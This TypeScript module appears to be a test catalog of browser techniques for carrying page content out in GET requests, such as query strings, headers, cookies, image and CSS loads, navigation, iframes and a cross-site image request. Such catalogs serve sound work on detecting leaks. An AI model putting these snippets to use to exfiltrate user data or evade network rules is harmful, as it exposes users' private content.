import type { Way } from './way';

const NO_HOOK = 'the browser loads it by itself, and network rules cannot read an address for what it says';

/** Content in addresses, headers and cookies of requests without a body. */
export const ADDRESSES: readonly Way[] = [
  { name: 'fetch-GET-query', script: 'fetch(query(V))' },
  {
    name: 'fetch-GET-header',
    script: "fetch(TAKE, { headers: { 'x-content': encoded(V) } })",
  },
  {
    name: 'cookie-then-GET',
    script: "document.cookie = 'content=' + encoded(V) + '; path=/take'; fetch(TAKE)",
    open: 'a cookie is no request, and every later request carries it',
  },
  { name: 'eventsource-GET', script: "new EventSource('/stream?content=' + encoded(V))" },
  { name: 'img-GET', script: 'new Image().src = query(V)' },
  {
    name: 'img-innerHTML-GET',
    script: `put('p').innerHTML = '<img src="' + query(V) + '">'`,
    open: NO_HOOK,
    firefox: {},
  },
  { name: 'script-GET', script: "put('script', { src: query(V) })" },
  {
    name: 'css-bg-GET',
    script: `put('p', { textContent: '背景' }).style.background = 'url("' + query(V) + '")'`,
    open: NO_HOOK,
    firefox: {},
  },
  { name: 'link-prefetch-GET', script: "put('link', { rel: 'prefetch', href: query(V) })" },
  { name: 'a-click-GET', script: "put('a', { href: query(V), id: 'go', textContent: '发布' })", press: '#go' },
  { name: 'window.open-GET', script: 'window.open(query(V))' },
  { name: 'location-GET', script: 'location.href = query(V)' },
  { name: 'navigation.navigate-GET', script: 'navigation.navigate(query(V))' },
  {
    name: 'history.pushState+reload-GET',
    script: "history.pushState(null, '', '/left?content=' + encoded(V)); location.reload()",
  },
  { name: 'iframe.src-GET', script: 'frame().src = query(V)' },
  {
    name: 'img-GET-cross-site',
    script: "new Image().src = absolute(query(V)).replace('//school.', '//third.')",
  },
];
